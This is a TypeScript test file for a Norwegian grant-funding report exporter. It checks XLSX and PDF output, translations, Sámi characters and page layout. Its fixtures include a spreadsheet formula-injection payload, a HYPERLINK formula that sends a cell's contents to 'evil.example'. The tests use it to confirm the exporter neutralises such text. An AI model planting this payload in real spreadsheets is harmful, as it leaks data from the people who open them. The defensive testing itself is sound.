import ExcelJS, { type Worksheet } from 'exceljs'
import { createTranslator } from 'next-intl'
import { pdfText } from '~tests/setup/pdf-text'
import { describe, expect, it } from 'vitest'
import en from '../../../../messages/en.json'
import nb from '../../../../messages/nb.json'
import nn from '../../../../messages/nn.json'
import { summariseFunding, type TFundingReport } from '../summary'
import { reportLabels, type TReportLabels } from './labels'
import { formatCell, NOT_APPLICABLE, type TCellFormats } from '@/server/reports/tables'
import { inertText } from '@/server/reports/xlsx'
import { renderFundingPdf, renderFundingXlsx } from './render'
import { reportSections } from './sections'

type TLocale = 'nb' | 'nn' | 'en'
// Typed by the bokmål file, so TypeScript refuses a nynorsk or English FundingReport that lacks one
// of its keys, and reportLabels one that asks for a key bokmål lacks.
const messages: Record<TLocale, { FundingReport: typeof nb.FundingReport }> = { nb, nn, en }

function labelsFor(locale: TLocale): TReportLabels {
  return reportLabels(createTranslator({ locale, messages: messages[locale], namespace: 'FundingReport' }))
}

const KARASJOK = 'Kárášjohka / Karasjok kommune'
const NESSEBY = 'Unjárga-Nesseby kommune'
const UIT = 'UiT Norges arktiske universitet'
const INJECTED = '=HYPERLINK("https://evil.example/?leak="&A1,"Kvittering")'
const day = (iso: string) => new Date(`${iso}T00:00:00Z`)

/** A Finnmark partnership's year: two owners (one below its co-financing share), one UH partner. */
function sampleReport(overrides: Partial<TFundingReport> = {}): TFundingReport {
  const recipients = [
    { id: 'karasjok', name: KARASJOK, isOwner: true },
    { id: 'nesseby', name: NESSEBY, isOwner: true },
    { id: 'uit', name: UIT, isOwner: false },
  ]
  const awards = [
    { recipientId: 'karasjok', recipientName: KARASJOK, awardedOn: day('2025-02-10'), amountOre: 120_000_000n },
    { recipientId: 'nesseby', recipientName: NESSEBY, awardedOn: day('2025-02-10'), amountOre: 70_000_000n },
    { recipientId: 'uit', recipientName: UIT, awardedOn: day('2025-03-01'), amountOre: 30_000_000n },
  ]
  const spendings = [
    { recipientId: 'karasjok', recipientName: KARASJOK, spentOn: day('2025-03-04'), measureTitle: 'Sámegiella: máŋggagielat oahpahus', description: 'Kurs for lærere, ođđa oahpaheaddjit', amountOre: 80_000_050n },
    { recipientId: 'nesseby', recipientName: NESSEBY, spentOn: day('2025-05-20'), measureTitle: '@SUM(1+1)', description: INJECTED, amountOre: 71_000_000n },
    { recipientId: 'uit', recipientName: UIT, spentOn: day('2025-09-12'), measureTitle: null, description: '-Veiledning (š, ŧ, ž, č)', amountOre: 12_000_000n },
  ]
  const coFinancings = [
    { ownerId: 'karasjok', ownerName: KARASJOK, kind: 'STAFF_TIME' as const, hoursCenti: 40_000, hourlyRateOre: 100_000n, description: 'Frikjøpt tid for ressurslærere', amountOre: 40_000_000n },
    { ownerId: 'nesseby', ownerName: NESSEBY, kind: 'MONEY' as const, hoursCenti: null, hourlyRateOre: null, description: '+Kommunale midler', amountOre: 10_000_000n },
  ]
  const rows = summariseFunding({
    coFinancingBp: 3000,
    recipients,
    allocations: [
      { ownerId: 'karasjok', adjustedOre: 125_000_000n },
      { ownerId: 'nesseby', adjustedOre: 75_000_000n },
    ],
    awards,
    spendings,
    coFinancings,
  })
  return {
    partnershipName: 'Kompetanseregion Finnmárku',
    countyName: 'Finnmark – Finnmárku – Finmarkku',
    year: 2025,
    status: 'ALLOCATED',
    stateAmountOre: 250_000_000n,
    coFinancingBp: 3000,
    recipient: null,
    generatedAt: new Date('2025-12-15T13:45:00Z'),
    rows,
    awards: awards.map(({ recipientName, awardedOn, amountOre }) => ({ recipientName, awardedOn, amountOre })),
    spendings: spendings.map(({ recipientName, spentOn, measureTitle, description, amountOre }) => ({ recipientName, spentOn, measureTitle, description, amountOre })),
    coFinancings: coFinancings.map(({ ownerName, kind, hoursCenti, hourlyRateOre, description, amountOre }) => ({ ownerName, kind, hoursCenti, hourlyRateOre, description, amountOre })),
    ...overrides,
  }
}

const DESCRIPTION = 'vikarer og reise til samling i Guovdageaidnu, ođđa oahpaheaddjit (š, ŧ, ž, č)'

/**
 * All of Finnmark's owners and 150 spending rows: many pages, rows of one and two lines. (This
 * layout once had the first row of some pages cut short by pdfkit's rounding; see pdf.ts.)
 */
function longReport(): TFundingReport {
  const owners = [KARASJOK, NESSEBY, 'Guovdageaidnu / Kautokeino kommune', 'Deatnu-Tana kommune', 'Porsáŋgu / Porsanger / Porsanki kommune', 'Alta kommune', 'Hammerfest kommune', 'Vardø kommune']
  const recipients = [...owners.map((name, i) => ({ id: `o${i}`, name, isOwner: true })), { id: 'uit', name: UIT, isOwner: false }]
  const awards = recipients.map((r, i) => ({ recipientId: r.id, recipientName: r.name, awardedOn: day('2025-02-10'), amountOre: BigInt(50_000_000 + i * 12_345_678) }))
  const spendings = Array.from({ length: 150 }, (_, i) => {
    const r = recipients[i % recipients.length]!
    const month = String((i % 12) + 1).padStart(2, '0')
    const measureTitle = i % 3 ? 'Lesing i alle fag' : 'Sámegiella: máŋggagielat oahpahus'
    return { recipientId: r.id, recipientName: r.name, spentOn: day(`2025-${month}-15`), measureTitle, description: i === 1 ? INJECTED : `Innkjøp nr. ${i + 1}: ${DESCRIPTION}`, amountOre: BigInt(1_000_000 + i * 77_777) }
  })
  const coFinancings = recipients
    .filter((r) => r.isOwner)
    .map((r, i) => ({ ownerId: r.id, ownerName: r.name, kind: 'MONEY' as const, hoursCenti: null, hourlyRateOre: null, description: 'Egen innsats', amountOre: BigInt(5_000_000 + i) }))
  const allocations = recipients.filter((r) => r.isOwner).map((r, i) => ({ ownerId: r.id, adjustedOre: BigInt(60_000_000 + i * 10_000_000) }))
  return {
    ...sampleReport(),
    rows: summariseFunding({ coFinancingBp: 3000, recipients, allocations, awards, spendings, coFinancings }),
    awards: awards.map(({ recipientName, awardedOn, amountOre }) => ({ recipientName, awardedOn, amountOre })),
    spendings: spendings.map(({ recipientName, spentOn, measureTitle, description, amountOre }) => ({ recipientName, spentOn, measureTitle, description, amountOre })),
    coFinancings: coFinancings.map(({ ownerName, kind, hoursCenti, hourlyRateOre, description, amountOre }) => ({ ownerName, kind, hoursCenti, hourlyRateOre, description, amountOre })),
  }
}

const escapeRegExp = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')

async function readXlsx(buffer: Buffer) {
  const workbook = new ExcelJS.Workbook()
  // exceljs's own Buffer type predates Node's generic Buffer; the bytes are the same.
  await workbook.xlsx.load(buffer as unknown as ExcelJS.Buffer)
  return workbook
}

function rowWhere(ws: Worksheet, firstCell: string) {
  let found: ExcelJS.Row | undefined
  ws.eachRow((row) => {
    if (!found && row.getCell(1).value === firstCell) found = row
  })
  if (!found) throw new Error(`no row starting with ${firstCell} in ${ws.name}`)
  return found
}

/** pdf.js text per page, with every kind of space made a plain one so amounts compare simply. */
describe('report labels', () => {
  it('exist in bokmål, nynorsk and English, with the same keys, and fill in their values', () => {
    const keys = (o: object, prefix = ''): string[] =>
      Object.entries(o).flatMap(([k, v]) => (v && typeof v === 'object' ? keys(v as object, `${prefix}${k}.`) : [`${prefix}${k}`]))
    expect(keys(nn.FundingReport)).toEqual(keys(nb.FundingReport))
    expect(keys(en.FundingReport)).toEqual(keys(nb.FundingReport))

    for (const locale of ['nb', 'nn', 'en'] as const) {
      // A missing message would also fail through console.error (tests/setup/fail-on-console-error.ts).
      const labels = labelsFor(locale)
      for (const [key, value] of Object.entries(labels) as [string, TReportLabels[keyof TReportLabels]][]) {
        const text = typeof value === 'function' ? value(2025, 'X') : value
        expect(typeof text, `${locale}.${key}`).toBe('string')
        expect(text.trim(), `${locale}.${key}`).not.toBe('')
        expect(text, `${locale}.${key}`).not.toBe(key)
        expect(text, `${locale}.${key}`).not.toContain('FundingReport')
        expect(text, `${locale}.${key}`).not.toMatch(/[{}]/)
      }
    }
    expect(labelsFor('nb').pageOf(2, 5)).toBe('Side 2 av 5')
    expect(labelsFor('nn').statusOpen).toBe('Ope')
    expect(labelsFor('en').titleForRecipient(2025, NESSEBY)).toBe(`Financial report for ${NESSEBY}, grant year 2025`)
  })
})

describe('report sections', () => {
  it('give every row a cell of its column’s kind per column, and UH partners no co-financing figures', () => {
    const sections = reportSections(longReport(), labelsFor('nb'))
    expect(sections.map((s) => s.title)).toEqual(['Per mottaker', 'Tilsagn', 'Forbruk', 'Egenandel'])
    // formatCell throws on a value of another kind; a string would pass as text in any column.
    const kindOf: TCellFormats<string> = { text: () => 'text', kroner: () => 'kroner', date: () => 'date', hours: () => 'hours', count: () => 'count', flag: () => 'flag', empty: 'empty', notApplicable: 'empty' }
    for (const section of sections) {
      for (const cells of section.rows) {
        expect(cells, section.title).toHaveLength(section.columns.length)
        section.columns.forEach((column, i) => expect(['empty', column.kind], `${section.title}: ${column.header}`).toContain(formatCell(column, cells[i]!, kindOf)))
      }
      expect(section.total, section.title).toHaveLength(section.columns.length)
      section.total!.forEach((value, i) => expect(() => formatCell(section.columns[i]!, value, kindOf)).not.toThrow())
    }
    const uh = sections[0].rows.find((cells) => cells[0] === UIT)!
    expect(uh.slice(6)).toEqual([NOT_APPLICABLE, NOT_APPLICABLE, NOT_APPLICABLE])
    expect(sections[0].rows.filter((cells) => cells.includes(NOT_APPLICABLE))).toEqual([uh])
  })
})

describe('spreadsheet', () => {
  it('has the summary, awards, spending and co-financing sheets with amounts as numbers in kroner', async () => {
    const buffer = await renderFundingXlsx(sampleReport(), labelsFor('nb'), 'nb')
    const workbook = await readXlsx(buffer)
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['Sammendrag', 'Tilsagn', 'Forbruk', 'Egenandel'])
    expect(workbook.creator).toBe('Samkomp')

    const summary = workbook.getWorksheet('Sammendrag')!
    expect(summary.getCell('A1').value).toBe('Økonomirapport for tilskuddsåret 2025')
    expect(rowWhere(summary, 'Partnerskap').getCell(2).value).toBe('Kompetanseregion Finnmárku')
    expect(rowWhere(summary, 'Status').getCell(2).value).toBe('Fordelt')
    const state = rowWhere(summary, 'Statlig tilskudd').getCell(2)
    expect(state.value).toBe(2_500_000)
    expect(state.numFmt).toBe('#,##0.00')
    expect(rowWhere(summary, 'Krav til egenandel (samfinansiering)').getCell(2).value).toBe(0.3)
    // The generation time as Norwegian wall-clock time: 13:45 UTC is 14:45 in Oslo in December.
    expect(rowWhere(summary, 'Generert').getCell(2).value).toEqual(new Date('2025-12-15T14:45:00Z'))

    const header = rowWhere(summary, 'Mottaker')
    expect(header.font.bold).toBe(true)
    expect(summary.views[0]).toMatchObject({ state: 'frozen', ySplit: header.number })
    const values = (n: number) => (summary.getRow(n).values as unknown[]).slice(1)
    expect(values(header.number)).toEqual(['Mottaker', 'Rolle', 'Fordelt', 'Tilsagn', 'Brukt', 'Gjenstår', 'Egenandel', 'Krav til egenandel', 'Under kravet'])
    // Sorted by name in Norwegian order; Karasjok spent 800 000,50 of 1 200 000 and co-financed enough.
    expect(values(header.number + 1)).toEqual([KARASJOK, 'Skoleeier', 1_250_000, 1_200_000, 800_000.5, 399_999.5, 400_000, 360_000, 'Nei'])
    // A UH partner has no allocation key share and no co-financing duty: those cells stay empty.
    expect(values(header.number + 2)).toEqual([UIT, 'UH-partner', 0, 300_000, 120_000, 180_000])
    // Nesseby spent more than it was awarded and co-financed 100 000 of the 210 000 required.
    expect(values(header.number + 3)).toEqual([NESSEBY, 'Skoleeier', 750_000, 700_000, 710_000, -10_000, 100_000, 210_000, 'Ja'])
    const total = summary.getRow(header.number + 4)
    expect(values(total.number)).toEqual(['Sum', undefined, 2_000_000, 2_200_000, 1_630_000.5, 569_999.5, 500_000, 570_000])
    expect(total.font.bold).toBe(true)
    expect(total.getCell(3).numFmt).toBe('#,##0.00')

    const spending = workbook.getWorksheet('Forbruk')!
    expect((spending.getRow(1).values as unknown[]).slice(1)).toEqual(['Dato', 'Mottaker', 'Tiltak', 'Beskrivelse', 'Beløp'])
    expect(spending.getRow(1).font.bold).toBe(true)
    expect(spending.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(spending.getCell('A2').value).toEqual(day('2025-03-04'))
    expect(spending.getCell('A2').numFmt).toBe('dd.mm.yyyy')
    expect(spending.getCell('C2').value).toBe('Sámegiella: máŋggagielat oahpahus')
    expect(spending.getCell('E2').value).toBe(800_000.5)
    expect((spending.getRow(5).values as unknown[]).slice(1)).toEqual(['Sum', undefined, undefined, undefined, 1_630_000.5])

    const coFinancing = workbook.getWorksheet('Egenandel')!
    expect((coFinancing.getRow(2).values as unknown[]).slice(1)).toEqual([KARASJOK, 'Frikjøpt arbeidstid', 400, 1000, 400_000, 'Frikjøpt tid for ressurslærere'])
    expect(coFinancing.getCell('C3').value).toBeNull()

    const awards = workbook.getWorksheet('Tilsagn')!
    expect((awards.getRow(2).values as unknown[]).slice(1)).toEqual([KARASJOK, day('2025-02-10'), 1_200_000])
    expect(awards.getColumn(1).width).toBeGreaterThanOrEqual(KARASJOK.length)
  })

  it('keeps text people typed from becoming a formula, also after reading the file back', async () => {
    const workbook = await readXlsx(await renderFundingXlsx(sampleReport(), labelsFor('nb'), 'nb'))
    const spending = workbook.getWorksheet('Forbruk')!
    const injected = spending.getCell('D3')
    expect(injected.type).toBe(ExcelJS.ValueType.String)
    expect(injected.formula).toBeUndefined()
    expect(injected.value).toBe(`'${INJECTED}`)
    expect(spending.getCell('C3').value).toBe("'@SUM(1+1)")
    expect(spending.getCell('D4').value).toBe("'-Veiledning (š, ŧ, ž, č)")
    expect(workbook.getWorksheet('Egenandel')!.getCell('F3').value).toBe("'+Kommunale midler")
    // Nothing anywhere in the file is a formula.
    for (const ws of workbook.worksheets) {
      ws.eachRow((row) => row.eachCell((cell) => expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula)))
    }
  })

  it('relies on exceljs writing a string that looks like a formula as a string cell', async () => {
    const workbook = new ExcelJS.Workbook()
    workbook.addWorksheet('x').getCell('A1').value = '=1+1'
    const back = await readXlsx(Buffer.from(await workbook.xlsx.writeBuffer()))
    const cell = back.getWorksheet('x')!.getCell('A1')
    expect(cell.type).toBe(ExcelJS.ValueType.String)
    expect(cell.value).toBe('=1+1')
  })

  it('prefixes exactly the texts that start like a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(inertText(`${start}1+1`)).toBe(`'${start}1+1`)
    for (const safe of ['Kárášjohka', '1+1', ' =1', "'=1", '']) expect(inertText(safe)).toBe(safe)
  })

  it('says in the title which recipient a one-recipient report is for', async () => {
    const report = sampleReport({ recipient: { id: 'nesseby', name: NESSEBY } })
    const workbook = await readXlsx(await renderFundingXlsx(report, labelsFor('nn'), 'nn'))
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['Samandrag', 'Tilsegn', 'Forbruk', 'Eigendel'])
    expect(workbook.getWorksheet('Samandrag')!.getCell('A1').value).toBe(`Økonomirapport for ${NESSEBY}, tilskotsåret 2025`)
  })
})

describe('PDF', () => {
  it('prints the title, the facts, Sámi names and Norwegian amounts in an embedded DejaVu font', async () => {
    const buffer = await renderFundingPdf(sampleReport(), labelsFor('nb'), 'nb')
    expect(buffer.subarray(0, 5).toString()).toBe('%PDF-')
    const { pages, all, info } = await pdfText(buffer)
    expect(all).toContain('Økonomirapport for tilskuddsåret 2025')
    expect(all).toContain(KARASJOK)
    expect(all).toContain(NESSEBY)
    expect(all).toContain('Finnmark – Finnmárku – Finmarkku')
    expect(all).toContain('Sámegiella: máŋggagielat oahpahus')
    expect(all).toContain('ođđa oahpaheaddjit')
    expect(all).toContain('š, ŧ, ž, č')
    // The text as people typed it: the apostrophe guard is for spreadsheets only.
    expect(all).toContain(INJECTED)
    expect(all).toContain('2 500 000,00 kr')
    expect(all).toContain('800 000,50 kr')
    expect(all).toContain('−10 000,00 kr')
    expect(all).toContain('30 %')
    expect(all).toContain('15. desember 2025')
    expect(all).toContain('4. mars 2025')
    pages.forEach((text, i) => expect(text).toContain(`Side ${i + 1} av ${pages.length}`))

    expect(info).toMatchObject({ Title: 'Økonomirapport for tilskuddsåret 2025', Author: 'Samkomp', Language: 'nb' })
    const raw = buffer.toString('latin1')
    expect(raw).toContain('DejaVuSans')
    expect(raw).toContain('DejaVuSans-Bold')
    expect(raw).not.toContain('Helvetica')
  })

  it('continues a long table on the next pages with its header repeated and a footer on every page', async () => {
    const { pages } = await pdfText(await renderFundingPdf(longReport(), labelsFor('nb'), 'nb'))
    expect(pages.length).toBeGreaterThan(2)
    pages.forEach((text, i) => expect(text).toContain(`Side ${i + 1} av ${pages.length}`))
    const withSpending = pages.filter((text) => text.includes('Innkjøp nr.'))
    expect(withSpending.length).toBeGreaterThan(1)
    for (const text of withSpending) expect(text).toMatch(/Dato\s+Mottaker\s+Tiltak\s+Beskrivelse\s+Beløp/)
    // Every row is printed once and whole (the texts wrap to two lines), none lost or cut off at a page break.
    const printed = pages.join(' ').replace(/\s+/g, ' ').match(new RegExp(`Innkjøp nr\\. \\d+: ${escapeRegExp(DESCRIPTION)}`, 'g')) ?? []
    expect(printed).toHaveLength(149)
    expect(new Set(printed).size).toBe(149)
    expect(pages.join(' ')).not.toContain('…')
  })

  it('follows the reader’s language and names the recipient of a one-recipient report', async () => {
    const report = sampleReport({ recipient: { id: 'karasjok', name: KARASJOK } })
    const { all, pages, info } = await pdfText(await renderFundingPdf(report, labelsFor('en'), 'en'))
    expect(all).toContain(`Financial report for ${KARASJOK}, grant year 2025`)
    expect(all).toContain('NOK 2,500,000.00')
    expect(all).toContain(`Page 1 of ${pages.length}`)
    expect(info).toMatchObject({ Language: 'en' })
  })
})
